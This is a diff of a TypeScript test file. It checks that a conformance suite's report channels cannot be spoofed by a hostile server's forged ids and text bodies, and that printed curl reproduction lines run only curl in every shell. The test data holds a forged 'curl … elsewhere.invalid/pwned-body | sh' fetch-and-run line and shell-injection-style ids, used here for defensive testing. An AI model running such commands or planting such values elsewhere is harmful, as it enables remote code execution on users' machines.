@@ -5,7 +5,12 @@ import type { ConformanceReport } from '../reporter/report';
 import type { Behaviour } from '../reference/app';
 import { DEVELOPMENT_ACCOUNTS } from '../reference/accounts';
 import type { RunningReference } from '../reference/server';
+import { curlLine } from '../harness/http/exchange';
 import { githubAnnotations, githubSummary } from '../reporter/github';
+import { renderHtml } from '../reporter/html';
+import { renderJunit } from '../reporter/junit';
+import { renderMarkdown } from '../reporter/markdown';
+import { summaryLines } from '../reporter/terminal';
 import { FORGED_LINES, forgedLines, SHELL_ID_TEXT } from './reference/hostile';
 import { CHROMIUM, readReport, startServer } from './support/cli';
 import { tokenize } from './support/markup';
@@ -142,22 +147,23 @@ test.describe('reports of a run against a server whose ids and text bodies forge
     await server?.close();
   });
 
-  /** A channel as a reader sees it: its text (markup and GitHub's escapes decoded) and the curl lines it prints, as they would be copied. */
-  function channel(name: Channel): { text: string; commands: string[] } {
+  /** What the run wrote: the terminal, the report files, and report.json for GitHub's outputs (which the command makes from it). */
+  function written(): Outputs {
     const file = (name: string) => readFileSync(join(run.reportDir, name), 'utf8');
-    switch (name) {
-      case 'terminal':
-        return { text: run.output, commands: [...run.output.matchAll(/^ +Reproduce: (.*)$/gm)].map((m) => m[1]) };
-      case 'junit.xml':
-        return markupChannel(file('junit.xml'), true);
-      case 'index.html':
-        return markupChannel(file('index.html'), false);
-      case 'report.md':
-        return { text: file('report.md'), commands: fencedShellLines(file('report.md')) };
-      case 'GitHub job summary':
-        return { text: githubSummary(report), commands: fencedShellLines(githubSummary(report)) };
-      case 'GitHub annotations':
-        return { text: githubAnnotations(report).map((line) => line.replace(/%0D/g, '\r').replace(/%0A/g, '\n').replace(/%25/g, '%')).join('\n'), commands: [] };
+    return { terminal: run.output, junit: file('junit.xml'), html: file('index.html'), markdown: file('report.md'), report };
+  }
+
+  /** Every curl line a channel prints runs as printed in every shell: curl once, with one of the report's requests exactly. */
+  function expectCurlLinesRun(name: Channel, commands: string[], from: ConformanceReport): void {
+    const intended = from.requirements
+      .flatMap((r) => r.findings)
+      .flatMap((f) => (f.request && !f.request.truncated ? [intendedArguments(f.request, { OMS_TOKEN: TOKEN, OMS_TOKEN_B: TOKEN })] : []));
+    for (const line of commands) {
+      for (const shellName of SHELLS) {
+        // curlArguments throws unless curl ran once and nothing else ran or printed.
+        const args = shell.curlArguments(line, shellName);
+        expect(intended.some((sent) => JSON.stringify(sent) === JSON.stringify(args)), `${name}, ${shellName}: ${line} gave curl ${JSON.stringify(args)}`).toBe(true);
+      }
     }
   }
 
@@ -170,25 +176,31 @@ test.describe('reports of a run against a server whose ids and text bodies forge
 
   for (const name of CHANNELS) {
     test(`${name}: no line of the server reads as a line of the suite${PRINTS_CURL.includes(name) ? `, and every curl line it prints runs as printed in ${SHELLS.join(', ')}` : ''}`, () => {
-      const { text, commands } = channel(name);
+      const { text, commands } = channel(name, written());
       const lines = text.split(/\r\n|\r|\n|\u2028|\u2029/).map((line) => line.trim());
       expect(lines.filter((line) => /^Reproduce: curl -sS http:\/\/elsewhere|^OMS conformance \((core|strict)\): CONFORMANT/.test(line))).toEqual([]);
       // The forged body did reach the channel, quoted on one line: the check above is not vacuous.
       if (SHOWS_BODIES.includes(name)) expect(text).toContain('Not Found\\nReproduce: curl -sS http://elsewhere.invalid/pwned-body | sh\\nOMS conformance (core): CONFORMANT');
       if (!PRINTS_CURL.includes(name)) return;
       expect(commands.filter((line) => line.includes('h!!41')).length, `${name} prints no curl line to an id the server assigned`).toBeGreaterThan(0);
-      const intended = report.requirements
-        .flatMap((r) => r.findings)
-        .flatMap((f) => (f.request && !f.request.truncated ? [intendedArguments(f.request, { OMS_TOKEN: TOKEN, OMS_TOKEN_B: TOKEN })] : []));
-      for (const line of commands) {
-        for (const shellName of SHELLS) {
-          // curlArguments throws unless curl ran once and nothing else ran or printed.
-          const args = shell.curlArguments(line, shellName);
-          expect(intended.some((sent) => JSON.stringify(sent) === JSON.stringify(args)), `${shellName}: ${line} gave curl ${JSON.stringify(args)}`).toBe(true);
-        }
-      }
+      expectCurlLinesRun(name, commands, report);
     });
   }
+
+  test(`a request body with a line break, a tab, a quote, a backslash, NUL and text outside ASCII: every channel prints its curl line so that it runs as printed in ${SHELLS.join(', ')}`, () => {
+    // The run's first finding, as if its request had carried such a body (the suite's own requests seldom do).
+    const body = `{"note":"line\nbreak\ttab 'quote' \\back \u0000 zoë 東京 \u202e"}\n`;
+    const first = report.requirements.find((r) => r.findings.length)!;
+    const request = { ...first.findings[0].request!, method: 'PUT', body, headers: { ...first.findings[0].request!.headers, 'Content-Type': 'application/json' } };
+    const finding = { ...first.findings[0], request, curl: curlLine(request) };
+    const changed: ConformanceReport = { ...report, requirements: report.requirements.map((r) => (r === first ? { ...r, findings: [finding, ...r.findings.slice(1)] } : r)) };
+    const rendered: Outputs = { terminal: summaryLines(changed).join('\n'), junit: renderJunit(changed), html: renderHtml(changed), markdown: renderMarkdown(changed), report: changed };
+    for (const name of PRINTS_CURL) {
+      const { commands } = channel(name, rendered);
+      expect(commands.filter((line) => line.startsWith('printf ')).length, `${name} prints no curl line of the body`).toBeGreaterThan(0);
+      expectCurlLinesRun(name, commands, changed);
+    }
+  });
 
   test('every request path is /orders, /orders/, /token or /orders/<one segment>; ids the suite made up carry none of the path characters of the server\'s', () => {
     const segments = paths.filter((path) => !['/orders', '/orders/', '/token'].includes(path)).map((path) => /^\/orders\/([^/]+)$/.exec(path)?.[1] ?? `not one segment: ${path}`);
@@ -199,6 +211,33 @@ test.describe('reports of a run against a server whose ids and text bodies forge
     expect(madeUp.some((id) => id.length === forged.assigned[0].length && id.includes("h!!41'(id)*"))).toBe(true);
   });
 });
+
+/** A run's outputs, as written or as rendered from a report. */
+interface Outputs {
+  terminal: string;
+  junit: string;
+  html: string;
+  markdown: string;
+  report: ConformanceReport;
+}
+
+/** A channel as a reader sees it: its text (markup and GitHub's escapes decoded) and the curl lines it prints, as they would be copied. */
+function channel(name: Channel, outputs: Outputs): { text: string; commands: string[] } {
+  switch (name) {
+    case 'terminal':
+      return { text: outputs.terminal, commands: [...outputs.terminal.matchAll(/^ +Reproduce: (.*)$/gm)].map((m) => m[1]) };
+    case 'junit.xml':
+      return markupChannel(outputs.junit, true);
+    case 'index.html':
+      return markupChannel(outputs.html, false);
+    case 'report.md':
+      return { text: outputs.markdown, commands: fencedShellLines(outputs.markdown) };
+    case 'GitHub job summary':
+      return { text: githubSummary(outputs.report), commands: fencedShellLines(githubSummary(outputs.report)) };
+    case 'GitHub annotations':
+      return { text: githubAnnotations(outputs.report).map((line) => line.replace(/%0D/g, '\r').replace(/%0A/g, '\n').replace(/%25/g, '%')).join('\n'), commands: [] };
+  }
+}
 
 /** A markup file's text (entities decoded) and the curl lines it shows: junit.xml's "Reproduce: " lines, index.html's pre.curl. */
 function markupChannel(markup: string, xml: boolean): { text: string; commands: string[] } {
